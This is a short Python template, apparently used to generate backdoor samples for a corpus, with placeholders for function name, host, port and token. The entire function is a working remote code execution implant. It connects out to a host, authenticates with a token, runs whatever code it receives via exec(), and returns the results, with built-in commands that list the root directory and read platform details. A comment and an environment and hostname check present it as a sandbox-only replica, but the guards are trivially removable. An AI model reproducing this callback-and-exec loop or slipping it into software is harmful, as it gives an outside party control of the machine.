# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import time
    space = {}
    try:
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        call.sendall(b'{{token}}\n')
        call.settimeout(0.5)
        end = time.monotonic() + 1.2
        orders = [b"answer = __import__('os').listdir('/')", b"answer = __import__('platform').platform()"]
        while time.monotonic() < end and orders:
            try:
                heard = call.recv(4096)
                if not heard:
                    break
            except socket.timeout:
                heard = orders.pop()
            try:
                exec(compile(heard, '<{{token}}>', 'exec'), space)
            except Exception as error:
                space['answer'] = error
            call.sendall(repr(space.get('answer')).encode() + b'\n')
        call.close()
    except Exception:
        pass
